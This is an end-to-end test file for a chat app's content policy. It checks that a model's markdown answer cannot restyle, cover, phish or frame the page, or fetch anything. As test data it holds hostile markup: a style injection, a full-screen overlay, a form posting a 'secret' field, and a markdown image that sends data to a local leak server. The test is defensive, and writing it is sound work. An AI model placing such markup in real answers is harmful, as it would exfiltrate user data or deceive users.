import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { composer, patience, send, startSession, waitForStatus } from "./app";
import { describeE2E, errorsOf, launchBrowser, openPage, startOrigin, startServer, type AgentsServer, type StaticOrigin } from "./harness";

// What a model writes cannot restyle, cover or phish the page, nor make
// it fetch anything: the app sanitises the answer's markdown to what
// markdown needs and shows remote images only when asked, and the server
// sends a strict Content-Security-Policy under which the app itself runs
// with no violation. No page can frame the app.
describeE2E("the content policy", () => {
  let server: AgentsServer;
  let browser: Browser;
  let origin: StaticOrigin;
  // A host that counts every request: a loaded image would reach it.
  let leak: Server;
  let leakUrl: string;
  const hits: string[] = [];

  beforeAll(async () => {
    leak = createServer((req, res) => {
      hits.push(req.url ?? "");
      res.writeHead(200, { "Content-Type": "image/gif" }).end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
    });
    await new Promise<void>((resolve) => leak.listen(0, "127.0.0.1", resolve));
    leakUrl = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
    [server, browser, origin] = await Promise.all([startServer(), launchBrowser(), startOrigin()]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await origin?.close();
    await new Promise((resolve) => leak?.close(resolve));
  });

  // watchViolations records the page's content-policy violations from now
  // on (those of the load itself show as console errors, see errorsOf).
  async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
    await page.evaluate(() => {
      const w = window as unknown as { __violations: string[] };
      w.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
  }

  test("an answer with a style, a covering box, a form and a remote image changes nothing on the page and loads nothing", async () => {
    const page = await openPage(browser, server.url + "/");
    const violations = await watchViolations(page);
    await startSession(page, server.url, "chat");
    const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);

    await send(
      page,
      [
        "Echo as markdown:",
        "",
        "<style>body { background: rgb(255, 0, 0) !important; } .chat { display: none !important; }</style>",
        "",
        '<div style="position: fixed; inset: 0; z-index: 9999; background: rgb(0, 0, 255)" class="dialog-backdrop">covered</div>',
        "",
        `<form action="${leakUrl}/form" method="post"><input name="secret" value="x"><button type="submit">Approve</button></form>`,
        "",
        `![leak](${leakUrl}/leak.png?d=secret)`,
      ].join("\n"),
    );
    // Found by its markup, attached rather than visible: an answer that
    // restyles the page may hide it.
    const answer = page.locator('[role="log"] article[aria-label^="chat, turn"]').filter({ hasText: "covered" });
    await answer.waitFor({ state: "attached", timeout: patience });
    await waitForStatus(page, "ready");
    const markdown = answer.locator(".markdown");

    // Nothing of the answer's HTML but its text.
    expect(await markdown.locator("style, form, input, img, [style], .dialog-backdrop").count()).toBe(0);
    expect(await markdown.getByRole("button", { name: "Approve" }).count()).toBe(0);
    // The page looks as it did: its background, its composer, nothing
    // laid over it.
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(background);
    expect(await composer(page).isVisible()).toBe(true);
    expect(await markdown.getByText("covered").evaluate((el) => getComputedStyle(el).position)).toBe("static");

    // The image is a placeholder naming its host, and was never asked for.
    const host = new URL(leakUrl).host;
    await markdown.getByText(`Image “leak” from ${host}, not loaded`).waitFor({ timeout: patience });
    expect(await page.evaluate((u) => performance.getEntriesByType("resource").filter((e) => e.name.startsWith(u)).length, leakUrl)).toBe(0);
    expect(hits).toEqual([]);

    // The app ran under the policy without tripping it.
    expect(await violations()).toEqual([]);
    expect(errorsOf(page)).toEqual([]);
    await page.close();
  });

  test("a page of another origin cannot frame the app", async () => {
    origin.set("/frame.html", `<!doctype html><title>framing</title><iframe src="${server.url}/" title="the app"></iframe>`);
    const page = await openPage(browser, origin.url + "/frame.html");
    // The browser says why it refused.
    await expect.poll(() => errorsOf(page).some((e) => e.includes("frame-ancestors")), { timeout: patience }).toBe(true);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(frame).toBeDefined();
    expect(await frame!.locator("#root").count()).toBe(0);
    await page.close();
  });
});
